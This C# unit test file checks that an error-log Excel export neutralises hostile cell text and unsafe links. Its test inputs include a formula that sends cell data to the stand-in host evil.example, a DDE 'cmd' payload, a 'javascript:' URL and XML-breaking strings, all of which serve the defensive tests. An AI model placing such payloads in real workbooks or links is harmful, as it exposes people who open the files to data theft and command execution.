using ClosedXML.Excel;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Spreadsheet;
using RelationSync.Domain.ErrorLog;
using RelationSync.Portal.Storage;
using RelationSync.Tests.Portal.Storage;

namespace RelationSync.Tests.Portal.ErrorLog.Workbook;

[Trait("Rule", "R-E2")]
public sealed class HostileTextTests
{
    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example?\"&A1)")]
    [InlineData("+81312345678")]
    [InlineData("-2+3")]
    [InlineData("@SUM(1+1)*cmd|' /C calc'!A0")]
    [InlineData("\tcmd")]
    public async Task Cell_LikeAFormula_IsTextWithTheQuotePrefix(string text)
    {
        using var bench = new WorkbookBench();
        bench.Add([Everywhere(bench.Store.AddInbox("support", name: text), text)]);

        using var stream = await bench.MakeAsync();
        using var workbook = new XLWorkbook(stream);

        foreach (var column in (int[])[3, 4, 7, 8, 10, 11, 12, 14])
        {
            var cell = workbook.Worksheet("エラーログ").Cell(2, column);
            Assert.Equal(text, cell.GetString());
            Assert.Equal(XLDataType.Text, cell.DataType);
            Assert.False(cell.HasFormula);
            Assert.True(cell.Style.IncludeQuotePrefix);
        }

        var code = workbook.Worksheet("原因と対処").Cell(2, 1);
        Assert.Equal(text, code.GetString());
        Assert.True(code.Style.IncludeQuotePrefix);
    }

    [Fact]
    public async Task Workbook_Anywhere_HoldsNoFormula()
    {
        using var bench = new WorkbookBench();
        bench.Add([Everywhere(bench.Store.AddInbox("support", name: "=1"), "=1")]);

        using var stream = await bench.MakeAsync();
        using var document = SpreadsheetDocument.Open(stream, false);

        Assert.All(document.WorkbookPart!.WorksheetParts, p => Assert.Empty(p.Worksheet.Descendants<CellFormula>()));
    }

    [Fact]
    public async Task Cell_WithAnyText_OpensAndKeepsWhatItMay()
    {
        using var bench = new WorkbookBench();
        var inbox = bench.Store.AddInbox("support");
        var text = "😀\u0001]]><c>&amp;_x000D_\ud800\u202e" + new string('長', 40_000);
        bench.Add([Everywhere(inbox, text)]);

        using var stream = await bench.MakeAsync(inbox);

        var stored = StreamedSheet.Rows(stream, "エラーログ")[1]["J"];
        var expected = ("😀]]><c>&amp;_x000D_\ufffd\u202e" + new string('長', 40_000))[..32_767];
        Assert.Equal(expected, stored.Replace("_x005F_", "_", StringComparison.Ordinal));
        Assert.Empty(Validity.Faults(stream));
    }

    [Theory]
    [InlineData("javascript:alert(1)", "00U5g0000000001EAA")]
    [InlineData("file:///etc", "00U5g0000000001EAA")]
    [InlineData("https://acme.my.salesforce.com", "00U\"/><evil/>00000")]
    [InlineData(null, "00U5g0000000001EAA")]
    public async Task Event_WithoutAGoodAddress_IsItsIdAndNoLink(string? instance, string id)
    {
        using var bench = new WorkbookBench();
        var inbox = bench.Store.AddInbox("support");
        var entry = Everywhere(inbox, "x");
        entry.EventId = id;
        entry.ConnectionId = bench.Store.AddConnection(inbox, c => c.Authorization.InstanceUrl = instance).Id;
        bench.Add([entry]);

        using var stream = await bench.MakeAsync(inbox);
        using var workbook = new XLWorkbook(stream);

        var cell = workbook.Worksheet("エラーログ").Cell(2, 14);
        Assert.Equal(id, cell.GetString());
        Assert.False(cell.HasHyperlink);
    }

    private static LogEntry Everywhere(Inbox inbox, string text) => new()
    {
        At = TestStore.Now,
        InboxId = inbox.Id,
        Severity = LogSeverity.Error,
        Category = LogCategory.Other,
        Code = text,
        Message = text,
        Channel = text,
        Subject = text,
        CustomerKey = text,
        Operator = text,
        EventId = text,
    };
}
